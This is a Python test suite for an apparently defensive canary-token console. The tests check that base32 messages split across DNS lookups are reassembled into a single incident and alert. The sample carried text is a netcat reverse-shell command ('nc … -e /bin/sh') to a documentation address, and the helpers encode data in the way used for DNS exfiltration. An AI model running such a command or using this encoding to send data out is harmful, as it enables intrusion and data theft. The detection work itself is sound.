"""Messages in parts: one incident, told once and whole, whatever resolvers do with them."""

from base64 import b32encode
from datetime import datetime, timedelta

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st

from serinus.alerts.alert import Reason
from serinus.base.ids import TokenId
from serinus.console.actions import minting
from serinus.console.actions.alerting import next_digest, read_alert, write_digests
from serinus.console.actions.carrying import MESSAGES_MAX, PARTS_WAIT, Messages, find_messages
from serinus.console.actions.minting import MintRequest, read_token
from serinus.console.actions.recording import Recorded, record_touches
from serinus.console.models import Alert, CarriedPart, Incident, IncidentTouch, Token
from serinus.model.touch import Channel, Touch
from serinus.tokens.carried.lookup import PARTS_MAX, read_part
from serinus.tokens.catalogue import kind_named
from serinus.tokens.kind import Trip

SAID = "root on web1 ran: nc 192.0.2.7 4444 -e /bin/sh"
SECOND = timedelta(seconds=1)


@pytest.fixture
def token(now: datetime) -> Token:
    return minting.mint(MintRequest("dns", "a name in a script"), None, now)


def write(text: str, nonce: str = "k7f3", width: int = 32) -> list[str]:
    code = b32encode(text.encode()).decode().rstrip("=").lower()
    parts = [code[n : n + width] for n in range(0, len(code), width)]
    return [f"{part}.{n}-{len(parts)}-{nonce}" for n, part in enumerate(parts, 1)]


class Wire:
    """Lookups of one token, recorded one batch after another."""

    def __init__(self, token: Token) -> None:
        self.token, self.seq = token, 0

    def touch(self, left: str, at: datetime, source: str, channel: Channel = "dns") -> Touch:
        self.seq += 1
        name = f"{left}.{self.token.token_id}.files.example"
        detail = {"name": name, "type": "A", "left": left.split(".")}
        ids = (TokenId(self.token.token_id),)
        return Touch(f"t{self.seq}", at.timestamp(), channel, "udp", source, 53, ids, detail)

    def ask(self, at: datetime, *lefts: str, source: str = "192.0.2.53") -> Recorded:
        """Record lookups of these names as one batch."""
        return self.record(at, *(self.touch(left, at, source) for left in lefts))

    def record(self, at: datetime, *touches: Touch) -> Recorded:
        return record_touches([(self.seq, touch) for touch in touches], self.interpret, at)

    def interpret(self, touch: Touch, row: Token) -> Trip | None:
        return kind_named(row.kind).interpret(touch, read_token(row))


def sentences(incident: Incident) -> list[str]:
    return [message.sentence for message in find_messages(incident.pk)]


def test_a_message_of_one_part_is_told_at_once(token: Token, now: datetime) -> None:
    (name,) = write(SAID, width=200)
    assert not Wire(token).ask(now, name).waits
    incident = Incident.objects.get()
    assert incident.headline.startswith(f"“{SAID}” carried by A lookup of {name}")
    alert = read_alert(Alert.objects.get(), "https://console.example")
    assert alert.headline.startswith(f"“{SAID}” carried by")
    assert ("Carried data", SAID) in alert.facts
    assert sentences(incident) == [SAID]


def test_parts_from_several_resolvers_are_one_incident_that_is_told_once_and_whole(
    token: Token, now: datetime
) -> None:
    wire, names = Wire(token), write(SAID)
    assert len(names) == 3
    for number, name in enumerate(reversed(names)):
        assert not Alert.objects.exists()
        waits = wire.ask(now + SECOND * number / 2, name, source=f"192.0.2.{number}").waits
        assert waits == (number < 2)
    incident = Incident.objects.get()
    assert (incident.touches, incident.told_touches, incident.digest_at) == (3, 3, None)
    assert incident.headline == f"“{SAID}” carried by lookups"
    alert = read_alert(Alert.objects.get(), "https://console.example")
    assert (alert.reason, alert.headline, alert.touches) == (Reason.OPENED, incident.headline, 3)
    assert alert.facts[0] == ("Carried data", SAID)
    assert sentences(incident) == [SAID]


def test_parts_in_one_batch_are_told_at_once(token: Token, now: datetime) -> None:
    assert not Wire(token).ask(now, *write(SAID)).waits
    assert Alert.objects.get().body["headline"] == f"“{SAID}” carried by lookups"


def test_what_stays_away_is_waited_for_a_short_time_and_shown_as_missing(
    token: Token, now: datetime
) -> None:
    wire, names = Wire(token), write(SAID)
    assert wire.ask(now, names[0], names[2]).waits
    assert not Alert.objects.exists()
    due = next_digest()
    assert due == now + PARTS_WAIT
    assert write_digests(due - SECOND) == 0
    assert write_digests(due) == 1 and write_digests(due) == 0
    alert = read_alert(Alert.objects.get(), "https://console.example")
    assert alert.reason is Reason.OPENED
    assert alert.headline == (
        "“root on web1 ran: nc[…]bin/sh” carried by lookups, incomplete: 2 of 3 parts"
    )
    assert alert.facts[0] == (
        "Carried data",
        "root on web1 ran: nc[…]bin/sh (incomplete: 2 of 3 parts)",
    )
    # What comes later still is shown, and told no more than any other touch that comes so soon.
    wire.ask(now + SECOND * 9, names[1], source="192.0.2.99")
    incident = Incident.objects.get()
    assert incident.headline == f"“{SAID}” carried by lookups"
    assert sentences(incident) == [SAID]
    assert (incident.told_touches, incident.digest_at) == (3, None)
    assert Alert.objects.count() == 1


def test_an_echo_is_evidence_and_nothing_else(token: Token, now: datetime) -> None:
    wire, names = Wire(token), write(SAID)
    wire.ask(now, *names)
    columns = ("headline", "first_seen", "last_seen", "source", "resolver", "channels")
    before = Incident.objects.values(*columns).get()
    wire.ask(now, *names)
    wire.ask(now + SECOND, *(name.upper() for name in names), source="198.51.100.1")
    wire.ask(now + timedelta(days=40), *names, source="203.0.113.9")
    assert Incident.objects.values(*columns).get() == before
    incident = Incident.objects.get()
    assert (incident.touches, incident.told_touches, incident.digest_at) == (12, 12, None)
    assert IncidentTouch.objects.count() == 12 and CarriedPart.objects.count() == 3
    assert Token.objects.get().touches == 12
    assert Alert.objects.count() == 1 and write_digests(now + timedelta(days=41)) == 0


def test_the_source_is_not_silenced_by_an_echo(token: Token, now: datetime) -> None:
    wire, later = Wire(token), now + timedelta(days=40)
    wire.ask(now, *write(SAID))
    wire.ask(later, *write(SAID))
    wire.ask(later + SECOND, "db01")
    assert Incident.objects.count() == Alert.objects.count() == 2


def test_another_message_is_another_touch(token: Token, now: datetime) -> None:
    wire = Wire(token)
    wire.ask(now, *write(SAID, "aaaa"))
    wire.ask(now + SECOND, *write("zoe on web2", "bbbb"), source="198.51.100.1")
    wire.ask(now + SECOND * 2, *write("zoe once more", "cccc"), source="198.51.100.1")
    first, second = Incident.objects.order_by("pk")
    assert sentences(first) == [SAID]
    assert sentences(second) == ["zoe on web2", "zoe once more"]
    assert second.headline.startswith("“zoe on web2” carried by")
    assert Alert.objects.count() == 2


def test_a_part_with_another_text_does_not_replace_the_first_nor_pass_for_its_echo(
    token: Token, now: datetime
) -> None:
    wire = Wire(token)
    wire.ask(now, *write(SAID))
    forged = write("X" * len(SAID))
    wire.ask(now + SECOND, forged[0], source="198.51.100.1")
    first, second = Incident.objects.order_by("pk")
    assert sentences(first) == [SAID] and first.touches == 3
    assert second.source == "198.51.100.1"
    write_digests(now + SECOND + PARTS_WAIT)
    assert Alert.objects.count() == 2
    wire.ask(now + SECOND * 2, *forged[1:])
    assert sentences(Incident.objects.get(pk=first.pk)) == [SAID]


def test_a_form_with_two_digits_is_an_echo_for_a_day(token: Token, now: datetime) -> None:
    wire, name = Wire(token), "NBSWY3DPEBTHE33NEBUG643UGQZA.G42"
    for hours, source in ((0, "192.0.2.1"), (1, "192.0.2.2"), (23, "192.0.2.3")):
        wire.ask(now + timedelta(hours=hours), name, source=source)
    assert Incident.objects.get().touches == 3 and Alert.objects.count() == 1
    wire.ask(now + timedelta(hours=25), name, source="192.0.2.3")
    assert Incident.objects.count() == Alert.objects.count() == 2
    wire.ask(now + timedelta(hours=26), name, source="192.0.2.4")
    assert [i.touches for i in Incident.objects.order_by("pk")] == [3, 2]


def test_mere_labels_of_other_sources_stay_other_incidents(token: Token, now: datetime) -> None:
    wire = Wire(token)
    wire.ask(now, "db01")
    wire.ask(now, "db01", source="198.51.100.1")
    assert Incident.objects.count() == Alert.objects.count() == 2
    assert not CarriedPart.objects.exists()


def test_a_crash_between_parts_loses_nothing(token: Token, now: datetime) -> None:
    wire, names = Wire(token), write(SAID)
    wire.ask(now, names[0])
    second = wire.touch(names[1], now, "192.0.2.54")
    with pytest.raises(RuntimeError), transaction.atomic():
        wire.record(now, second)
        raise RuntimeError
    assert CarriedPart.objects.count() == 1
    wire.record(now, second)
    wire.record(now, second)
    wire.ask(now + SECOND, names[2])
    assert sentences(Incident.objects.get()) == [SAID]
    assert Alert.objects.count() == 1 and IncidentTouch.objects.count() == 3


def test_the_visit_that_follows_a_carried_name_keeps_what_was_carried_as_the_headline(
    token: Token, now: datetime
) -> None:
    wire = Wire(token)
    wire.ask(now, *write(SAID))
    visit = wire.touch("x", now + SECOND, "203.0.113.7", "http")
    wire.record(now + SECOND, visit._replace(detail={"method": "GET", "target": "/"}))
    incident = Incident.objects.get()
    assert (incident.source, incident.resolver) == ("203.0.113.7", "192.0.2.53")
    assert incident.headline == f"“{SAID}” carried by lookups"


def test_a_touch_meanwhile_does_not_end_the_wait(token: Token, now: datetime) -> None:
    wire, names = Wire(token), write(SAID)
    wire.ask(now, names[0])
    assert wire.ask(now + SECOND, "db01").waits
    assert not Alert.objects.exists()
    assert not wire.ask(now + SECOND, *names[1:]).waits
    assert Incident.objects.get().told_touches == Alert.objects.get().body["touches"] == 4


@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_in_whatever_order_and_batches_it_comes_to_the_same(data: st.DataObject) -> None:
    now = datetime.fromisoformat("2026-03-01T03:00:00+00:00")
    for model in (Alert, CarriedPart, IncidentTouch, Incident):
        model.objects.all().delete()
    token = minting.mint(MintRequest("dns", "a name in a script"), None, now)
    names = write(SAID, width=16)
    order = data.draw(st.permutations([*names, *data.draw(st.lists(st.sampled_from(names)))]))
    cuts = data.draw(st.lists(st.integers(1, len(order)), max_size=3))
    wire, begin = Wire(token), 0
    for number, end in enumerate([*sorted(cuts), len(order)]):
        wire.ask(now + SECOND * number / 4, *order[begin:end], source=f"192.0.2.{number}")
        begin = end
    incident = Incident.objects.get()
    assert (incident.touches, incident.told_touches) == (len(order), len(order))
    assert incident.headline == f"“{SAID}” carried by lookups"
    assert sentences(incident) == [SAID]
    assert Alert.objects.get().body["facts"][0] == ["Carried data", SAID]


def test_a_digest_tells_what_came_later(token: Token, now: datetime) -> None:
    wire = Wire(token)
    wire.ask(now, *write("first", "aaaa"))
    wire.ask(now + timedelta(minutes=5), *write("second", "bbbb"), *write(SAID, "cccc"))
    assert write_digests(now + timedelta(hours=1)) == 1
    digest = read_alert(Alert.objects.get(reason="digest"), "https://console.example")
    assert digest.facts == (("Carried data", "second"), ("Carried data", SAID))


def test_what_is_carried_cannot_end_its_quotation(token: Token, now: datetime) -> None:
    Wire(token).ask(now, *write("x” carried by A lookup of y “", width=200))
    headline = Incident.objects.get().headline
    assert headline.startswith('“x" carried by A lookup of y "” carried by A lookup of ')


def test_an_alert_tells_no_more_messages_than_are_shown(token: Token, now: datetime) -> None:
    names = [name for n in range(MESSAGES_MAX + 2) for name in write(SAID, f"k7f{n}")]
    Wire(token).ask(now, *names)
    facts = Alert.objects.get().body["facts"]
    assert facts[:MESSAGES_MAX] == [["Carried data", SAID]] * MESSAGES_MAX
    assert ["Carried data", SAID] not in facts[MESSAGES_MAX:]


def test_a_name_that_is_forged_from_many_addresses_costs_no_more_than_one_message(
    token: Token, now: datetime
) -> None:
    wire, part = Wire(token), "{}.1-2-k7f3"
    texts = [b32encode(f"{n:05}".encode()).decode().lower() for n in range(PARTS_MAX + 8)]
    for n, text in enumerate(texts):
        wire.ask(now, part.format(text), source=f"192.0.2.{n}")
    assert Incident.objects.count() == len(texts)
    with CaptureQueriesContext(connection) as queries:
        messages = Messages([(token.pk, read_part(part.format(texts[-1]).split(".")))])
    assert messages.incidents == {Incident.objects.latest("pk").pk}
    assert f"LIMIT {PARTS_MAX}" in queries[0]["sql"]
